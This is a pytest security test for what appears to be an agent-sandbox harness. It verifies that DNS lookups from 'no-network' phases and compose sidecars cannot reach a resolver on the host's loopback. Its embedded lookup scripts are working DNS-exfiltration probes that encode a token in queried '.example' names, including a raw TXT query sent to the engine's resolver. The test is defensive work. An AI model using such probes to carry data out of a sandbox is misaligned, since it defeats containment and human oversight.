"""Attack: a ``no-network`` phase's DNS through the engine's resolver to the host's own.

On a user-defined network (the harness's ``hx-egress``, a compose project's) a container's
resolver is the engine's (``127.0.0.11``), which forwards what it does not know. Given no
resolvers, it takes the host's; a resolver on the host's loopback (a local dnsmasq or
unbound) it asks from the engine host's own network namespace, past every rule of the
trial's, so a closed phase would carry data out in the names it looks up. The harness
always gives its containers and every compose sidecar the host's non-loopback resolvers
(``sandbox.docker.egress.container_resolvers``).

The engine here is a private ``dockerd`` as root on this host (the host egress filter and
the compose host rules: root's own path), whose ``/etc/resolv.conf`` names a resolver on
a loopback address of its own (a mount namespace of its own, the host's network). That
resolver is the test's listener, and what it hears is the verdict:

- a plain task: the ``public`` agent, then the ``no-network`` verifier, which looks a token
  name up (the system's resolver, and a TXT query straight to ``127.0.0.11``);
- a compose task: its sidecar looks a token name up as it starts, the ``no-network`` agent
  and verifier look others up.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from support.compose_tasks import LoopbackResolver, kv_compose
from support.private_engine import BASE_IMAGE, PrivateEngine, started_engine

pytestmark = [pytest.mark.docker, pytest.mark.root]

#: A phase's lookups (``python3 - TOKEN WHERE``): the system's resolver, then a TXT query
#: straight to the engine's resolver.
LOOKUP = r"""
import json, socket, struct, sys
token, where = sys.argv[1], sys.argv[2]
out = {}
try:
    out["system"] = socket.gethostbyname("%s.%s.example" % (token, where))
except OSError as exc:
    out["system"] = type(exc).__name__
name = "%s.%s-txt.example" % (token, where)
question = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
packet = struct.pack("!HHHHHH", 9, 0x0100, 1, 0, 0, 0) + question + struct.pack("!HH", 16, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
try:
    s.sendto(packet, ("127.0.0.11", 53)); out["direct"] = len(s.recv(4096))
except OSError as exc:
    out["direct"] = type(exc).__name__
print(json.dumps(out))
"""

SIDECAR = r"""
import socket, sys, threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
def look():
    try:
        socket.gethostbyname(sys.argv[1] + ".sidecar.example")
    except OSError:
        pass
threading.Thread(target=look, daemon=True).start()
class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.send_header("Content-Length", "2"); self.end_headers()
        self.wfile.write(b"OK")
ThreadingHTTPServer(("0.0.0.0", 8080), Handler).serve_forever()
"""

COMPOSE = kv_compose(["python3", "/srv/kv.py", "@TOKEN@"])


@dataclass
class LoopbackEngine:
    """The private engine, its host's loopback resolver, and the harness's TMPDIR."""

    engine: PrivateEngine
    resolver: LoopbackResolver
    #: A shared mount: what the harness mounts under it (a trial's filesystem) the
    #: engine's own mount namespace sees too (this host's ``/`` is private).
    tmp: Path


@pytest.fixture
def loopback_engine(tmp_path: Path) -> Iterator[LoopbackEngine]:
    # A loopback address of the test's own: tests running at once never share one.
    address = f"127.53.{secrets.randbelow(250) + 1}.{secrets.randbelow(250) + 1}"
    resolver = LoopbackResolver(address)
    conf = tmp_path / "resolv.conf"
    conf.write_text(f"nameserver {address}\n")
    root = Path("/tmp") / f"hxlr-{secrets.token_hex(3)}"
    shared = root / "t"
    shared.mkdir(parents=True)
    try:
        subprocess.run(["mount", "--bind", str(shared), str(shared)], check=True)
        subprocess.run(["mount", "--make-shared", str(shared)], check=True)
        engine = started_engine(root / "e", resolv_conf=conf)
        try:
            yield LoopbackEngine(engine, resolver, shared)
        finally:
            engine.close()
    finally:
        resolver.close()
        subprocess.run(["umount", "--recursive", "--lazy", str(shared)], check=False)
        shutil.rmtree(root, ignore_errors=True)


def _task(tasks: Path, name: str, token: str, *, compose: bool) -> None:
    task = tasks / name
    (task / "tests").mkdir(parents=True)
    (task / "environment").mkdir()
    agent = "no-network" if compose else "public"
    (task / "task.toml").write_text(
        f'[task]\nname = "loopdns/{name}"\n'
        f'[agent]\ntimeout_sec = 60\nnetwork_mode = "{agent}"\n'
        '[verifier]\ntimeout_sec = 60\nnetwork_mode = "no-network"\n'
    )
    (task / "environment" / "Dockerfile").write_text(f"FROM {BASE_IMAGE}\n")
    (task / "tests" / "lookup.py").write_text(LOOKUP)
    (task / "instruction.md").write_text(
        f"python3 - {token} {name}-agent <<'PY' > agent.json\n{LOOKUP}PY\n"
    )
    (task / "tests" / "test.sh").write_text(
        f"python3 /tests/lookup.py {token} {name}-verifier\n"
        'echo 1 > "$HARNESS_VERIFIER_DIR/reward.txt"\n'
    )
    if compose:
        kv = task / "environment" / "kv"
        kv.mkdir()
        (kv / "Dockerfile").write_text(f"FROM {BASE_IMAGE}\nCOPY kv.py /srv/kv.py\n")
        (kv / "kv.py").write_text(SIDECAR)
        (task / "environment" / "docker-compose.yaml").write_text(COMPOSE.replace("@TOKEN@", token))


def test_no_lookup_of_a_closed_phase_or_a_sidecar_reaches_the_hosts_loopback_resolver(
    loopback_engine: LoopbackEngine, tmp_path: Path
) -> None:
    engine, resolver = loopback_engine.engine, loopback_engine.resolver
    token = secrets.token_hex(8)
    tasks = tmp_path / "tasks"
    _task(tasks, "plain", token, compose=False)
    _task(tasks, "compose", token, compose=True)
    env = {**os.environ, "DOCKER_HOST": engine.host, "TMPDIR": str(loopback_engine.tmp)}
    done = subprocess.run(
        [sys.executable, "-m", "harness", "run", str(tasks), "--sandbox", "docker",
         "-o", str(tmp_path / "out"), "--display", "plain", "--agent", "command",
         "--agent-cmd", "bash {instruction_file}", "-j", "2"],
        capture_output=True, text=True, env=env, timeout=900, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-3000:]
    (run_dir,) = [p for p in (tmp_path / "out").iterdir() if p.is_dir()]
    records = [json.loads(line) for line in (run_dir / "trials.jsonl").read_text().splitlines()]
    # Every phase ran its lookups to the end (the verifier's reward comes after them).
    assert {(r["status"], r["reward"]) for r in records} == {("completed", 1)}, records
    # The control: the listener works, and is the engine's host resolver.
    control = b"control-" + token.encode()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.sendto(control, (resolver.address, 53))
    deadline = time.monotonic() + 10
    while control not in resolver.got and time.monotonic() < deadline:
        time.sleep(0.05)
    assert control in resolver.got, resolver.got
    heard = [q for q in resolver.got if token.encode() in q]
    leaked = [q for q in heard if not q.startswith(b"control-")]
    assert not leaked, leaked
    compose = next(r for r in records if r["task"]["name"] == "loopdns/compose")
    assert compose["sandbox"]["compose"]["host_guard"]["kind"] == "host", compose["sandbox"]
